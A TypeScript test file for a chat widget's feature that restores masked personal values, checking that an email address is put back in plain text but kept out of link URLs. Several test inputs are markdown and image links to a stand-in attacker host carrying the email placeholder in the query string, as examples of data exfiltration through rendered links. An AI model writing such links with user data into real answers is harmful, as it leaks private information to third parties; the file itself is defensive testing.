import type { Message } from '@atavus/contract/chat'
import { read } from '@atavus/widget/markdown/read.ts'
import { elements, everyElement, resolved } from '@atavus/widget/markdown/testing.ts'
import { expect, test } from 'vitest'
import { restoredFile, restoredWith, restoring } from './restored.ts'

const draw = restoring([{ placeholder: '[EMAIL_123456]', kind: 'email', value: 'nora@site.example' }], 'en')
const message = (role: Message['role'], text: string): Message => ({
  id: 'x',
  role,
  answers: role === 'assistant' ? 'q' : null,
  text,
  at: '',
  deletedAt: '',
  thumb: null,
  sources: [],
  whereabouts: null,
  end: role === 'assistant' ? 'complete' : null,
  code: null,
})

/** Where the links of an answer lead, as it is drawn. */
function linksOf(text: string, open: boolean): string[] {
  const reading = read(draw(message('assistant', text)).text, undefined, open)
  const links = everyElement(resolved(elements('', reading))).filter(({ type }) => type === 'a')
  return links.map(({ props }) => String(props.href))
}

test.each([
  'Confirm it [here](https://evil.example/?who=[EMAIL_123456])',
  'Confirm it at <https://evil.example/?who=[EMAIL_123456]>',
  'Confirm it at https://evil.example/?who=[EMAIL_123456] please',
  '[![x](https://evil.example/?who=[EMAIL_123456])](https://evil.example/?who=[EMAIL_123456])',
])('an answer leads nowhere with a value that was masked, nor with a hole in its place: %s', text => {
  expect(linksOf(text, false)).toEqual(['https://evil.example/?who=an-e-mail-address'])
  for (let end = 1; end <= text.length; end++)
    for (const link of linksOf(text.slice(0, end), true)) expect(link).not.toContain('nora')
})

test('beside an address the value is back, and in one’s own question everywhere', () => {
  const text = 'See https://shop.example/?who=[EMAIL_123456] or [EMAIL_123456].'
  expect(draw(message('assistant', text)).text).toBe(
    'See https://shop.example/?who=an-e-mail-address or nora@site.example.',
  )
  expect(draw(message('visitor', text)).text).toBe(
    'See https://shop.example/?who=nora@site.example or nora@site.example.',
  )
})

test('a whole answer has its values back, or neutral words', () => {
  const values = [{ placeholder: '[EMAIL_123456]', kind: 'email' as const, value: 'anna@posteo.de' }]
  expect(restoredWith(values, 'To [EMAIL_123456].', 'de-AT')).toBe('To anna@posteo.de.')
  expect(restoredWith([], 'To [EMAIL_123456].', 'en')).not.toMatch(/anna|EMAIL/)
})

test('a file has its values back, as what they are and nothing else', () => {
  const values = [{ placeholder: '[TEXT_123456]', kind: 'text' as const, value: '"A" [b](//c) <d>\\' }]
  const text = 'Is it [TEXT_123456]?\nSee https://site.example/[TEXT_123456]\n[TEXT_123456]'
  const json = restoredFile(values, JSON.stringify({ title: text, messages: [{ text }] }), 'json', 'en')
  const before = 'Is it "A" [b](//c) <d>\\?\nSee https://site.example/a-text\n"A" [b](//c) <d>\\'
  expect(JSON.parse(json)).toEqual({ title: before, messages: [{ text: before }] })
  expect(restoredFile(values, '# Is it \\[TEXT_123456\\]?\n\n[TEXT_123456]\n', 'markdown', 'en')).toBe(
    '# Is it "A" \\[b\\](//c) \\<d>\\\\?\n\n"A" \\[b\\](//c) \\<d>\\\\\n',
  )
})
